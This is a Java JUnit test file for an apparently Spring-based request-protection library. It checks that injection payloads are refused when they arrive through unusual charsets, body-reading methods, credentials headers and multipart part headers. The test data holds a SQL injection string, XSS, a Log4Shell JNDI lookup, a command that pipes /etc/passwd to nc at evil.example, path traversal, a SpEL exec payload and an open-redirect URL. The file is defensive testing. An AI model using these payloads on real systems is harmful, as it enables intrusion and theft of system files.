package io.github.raspspring.ways;

import java.io.IOException;
import java.net.Socket;
import java.net.http.HttpResponse;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.util.Base64;

import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Tests of ways to read a request that few applications go, and of ways to send what they
 * read that few clients go.
 */
class OddWaysTests {

	private static final String ATTACK = "x' union select password from users where 'a'='a";

	private static final String HONEST = "it's a union of two";

	private static final String FORM = "application/x-www-form-urlencoded";

	private static final String PARTS = "multipart/form-data; boundary=b";

	private static WaysServer server;

	@BeforeAll
	static void start() {
		server = new WaysServer("block", OddWaysApplication.class);
	}

	@AfterAll
	static void stop() {
		server.close();
	}

	@ParameterizedTest
	@ValueSource(strings = { "byte-buffer", "skip", "skip-reader", "lines", "char-buffer", "transfer", "mark", "text" })
	void bodyWhenReadOddlyThenIsJudged(String reading) throws Exception {
		for (String type : new String[] { "application/json", "text/plain", "application/xml", "text/csv",
				"application/vnd.api+json", "application/json-seq", "application/x-yaml" }) {
			String honest = "[\"" + HONEST + "\"]";
			String read = reading.startsWith("skip") ? honest.substring(1) : honest;
			assertThat(server.post("/odd/" + reading, type, honest).body()).isEqualTo(read);
			WaysServer.assertRefused(server.post("/odd/" + reading, type, "[\"" + ATTACK + "\"]"));
		}
	}

	@ParameterizedTest
	@ValueSource(
			strings = { "/odd/future", "/odd/thread", "/odd/web-request", "/functional/bind", "/functional/params" })
	void fieldWhenReadElsewhereThenIsJudged(String path) throws Exception {
		for (String type : new String[] { FORM, "APPLICATION/X-WWW-FORM-URLENCODED ; a=b", FORM + ";charset=UTF-8" }) {
			assertThat(server.post(path, type, "q=" + Way.encode(HONEST)).body()).isEqualTo(HONEST);
			WaysServer.assertRefused(server.post(path, type, "q=" + Way.encode(ATTACK)));
			WaysServer.assertRefused(server.post(path, type, "q=a&%71=" + Way.encode(ATTACK)));
			WaysServer.assertRefused(server.post(path + "?q=a", type, "q=" + Way.encode(ATTACK)));
		}
	}

	@ParameterizedTest
	@ValueSource(strings = { "UTF-16BE", "UTF-16LE", "UTF-16", "UTF-32BE", "UTF-32LE", "UTF-8" })
	void documentWhenInOtherUnicodeThenIsJudged(String charset) throws Exception {
		for (String path : new String[] { "/odd/object", "/functional/map" }) {
			byte[] honest = ("{\"q\":\"" + HONEST + "\"}").getBytes(Charset.forName(charset));
			byte[] attack = ("{\"q\":\"" + ATTACK + "\"}").getBytes(Charset.forName(charset));
			assertThat(server.post(path, "application/json", honest).body()).contains(HONEST);
			WaysServer.assertRefused(server.post(path, "application/json", attack));
		}
	}

	@ParameterizedTest
	@ValueSource(strings = { "{\"all\":{\"a\":[{\"q\":\"%s\"}]}}",
			"{\"all\":{\"a\":[{\"r\":1,\"q\":\"%s\"}],\"b\":[]}}", "\uFEFF{\"all\":{\"a\":[{\"q\":\"%s\"}]}}" })
	void leafWhenDeepInTypedBodyThenIsJudged(String body) throws Exception {
		assertThat(server.post("/odd/deep", "application/json", body.formatted(HONEST)).body()).isEqualTo(HONEST);
		WaysServer.assertRefused(server.post("/odd/deep", "application/json", body.formatted(ATTACK)));
	}

	@ParameterizedTest
	@ValueSource(strings = { "UTF-16", "UTF-16LE", "IBM037", "UTF-32", "IBM500", "UTF-16BE" })
	void fieldWhenItsCharsetIsAnotherThenItsBytesAreJudged(String charset) throws Exception {
		String type = "\r\nContent-Type: text/plain; charset=" + charset;
		assertThat(server.post("/odd/part-bytes", PARTS, part(type, HONEST)).body()).isEqualTo(HONEST);
		WaysServer.assertRefused(server.post("/odd/part-bytes", PARTS, part(type, ATTACK)));
	}

	/**
	 * Whoever reads bytes need not ask for the charset that the client has declared.
	 */
	@ParameterizedTest
	@ValueSource(strings = { "utf-16", "UTF-16LE", "utf-16be", "utf-32", "UTF-32LE", "x-UTF-16LE-BOM", "\"utf-16\"",
			"IBM037", "IBM1047", "ISO-2022-JP", "windows-1252", "utf-8" })
	void bodyWhenItsCharsetIsAnotherThenItsBytesAreJudged(String charset) throws Exception {
		for (String type : new String[] { "text/plain", "application/json", "application/xml", "text/csv",
				"application/octet-stream", "application/x-yaml", "application/graphql", "image/png", "x/y" }) {
			String declared = type + "; charset=" + charset;
			for (String path : new String[] { "/odd/transfer", "/odd/byte-buffer" }) {
				WaysServer.assertRefused(server.post(path, declared, ATTACK));
			}
		}
	}

	@ParameterizedTest
	@ValueSource(strings = { "UTF-16", "UTF-16LE", "UTF-16BE", "UTF-32", "ISO-8859-1", "windows-1252" })
	void bodyWhenHonestInItsCharsetThenIsServed(String charset) throws Exception {
		for (String text : new String[] { HONEST, "Zo\u00eb's caf\u00e9 at 5 o'clock", "a\r\nb -- c" }) {
			byte[] body = text.getBytes(Charset.forName(charset));
			HttpResponse<String> answer = server.post("/odd/transfer", "text/plain; charset=" + charset, body);
			assertThat(answer.statusCode()).isEqualTo(200);
		}
	}

	@ParameterizedTest
	@ValueSource(strings = { "Bearer ", "bearer  ", "DPoP ", "Negotiate ", "NEGOTIATE ", "bearer " })
	void credentialsThatAreNoTokenAreJudged(String scheme) throws Exception {
		assertThat(answer(scheme + "eyJhbGciOiJub25lIn0.e30.abc-_~+/==")).startsWith("HTTP/1.1 200 ");
		assertThat(answer(scheme + ATTACK)).startsWith("HTTP/1.1 403 ");
		assertThat(answer(scheme + "eyJhbGciOiJub25lIn0 " + ATTACK)).startsWith("HTTP/1.1 403 ");
	}

	@ParameterizedTest
	@CsvSource(delimiter = '|', textBlock = """
			text/plain; charset=utf-8   | x' union select password from users where 'a'='a
			image/svg+xml               | <img src=x onerror=alert(1)>
			application/vnd.a+json      | ${jndi:ldap://evil.example/a}
			text/plain; format=flowed   | text/plain; x=$(cat /etc/passwd | nc evil.example 99)
			application/pdf; name="a"   | application/pdf; name="../../../../etc/passwd"
			x-any/any                   | ${T(java.lang.Runtime).getRuntime().exec('id')}
			""")
	void typeOfPartIsJudged(String honest, String attack) throws Exception {
		String type = "; filename=a\r\nContent-Type: ";
		assertThat(server.post("/odd/part-type", PARTS, part(type + honest, "x")).body()).isEqualTo(honest);
		WaysServer.assertRefused(server.post("/odd/part-type", PARTS, part(type + attack, "x")));
	}

	@ParameterizedTest
	@ValueSource(strings = { "", "; filename=\"\"", "; filename=\"a.txt\"", "; filename=a\r\nContent-Type: text/html",
			"; filename=\"a.sql\"\r\nContent-Type: application/octet-stream", "; filename*=UTF-8''a.png" })
	void fieldWhenCalledAFileThenSinksFollowIt(String more) throws Exception {
		HttpResponse<String> honest = server.post("/odd/part-redirect", PARTS, part(more, "/books/1"));
		assertThat(honest.headers().firstValue("Location"))
			.hasValueSatisfying((to) -> assertThat(to).endsWith("/books/1"));
		WaysServer.assertRefused(server.post("/odd/part-redirect", PARTS, part(more, "http://evil.example/a")));
	}

	@ParameterizedTest
	@ValueSource(strings = { "; filename=\"a.txt\"", "; filename=\"a.sql\"",
			"; filename=a.log\r\nContent-Type: text/html", "; filename=a.md", "; filename=a.sh", "; filename=a.java" })
	void fileOfTextMaySayAnything(String more) throws Exception {
		assertThat(server.post("/odd/part-bytes", PARTS, part(more, ATTACK)).body()).isEqualTo(ATTACK);
	}

	@ParameterizedTest
	@ValueSource(strings = { "Basic ", "basic  ", "Digest username=", "Custom ", "NTLM ", "" })
	void credentialsForProxiesAreJudged(String scheme) throws Exception {
		assertThat(answer(credentials(scheme, "jane"))).startsWith("HTTP/1.1 200 ")
			.endsWith(credentials(scheme, "jane"));
		assertThat(answer(credentials(scheme, ATTACK))).startsWith("HTTP/1.1 403 ");
	}

	private static String answer(String credentials) throws IOException {
		try (Socket socket = server.connect()) {
			socket.getOutputStream()
				.write(("GET /odd/credentials HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\nProxy-Authorization: "
						+ credentials + "\r\n\r\n")
					.getBytes(StandardCharsets.ISO_8859_1));
			return new String(socket.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
		}
	}

	private static String credentials(String scheme, String name) {
		byte[] basic = (name + ":secret").getBytes(StandardCharsets.UTF_8);
		return scheme + (scheme.strip().equalsIgnoreCase("basic") ? Base64.getEncoder().encodeToString(basic) : name);
	}

	private static String part(String more, String content) {
		return "--b\r\nContent-Disposition: form-data; name=\"q\"" + more + "\r\n\r\n" + content + "\r\n--b--\r\n";
	}

}
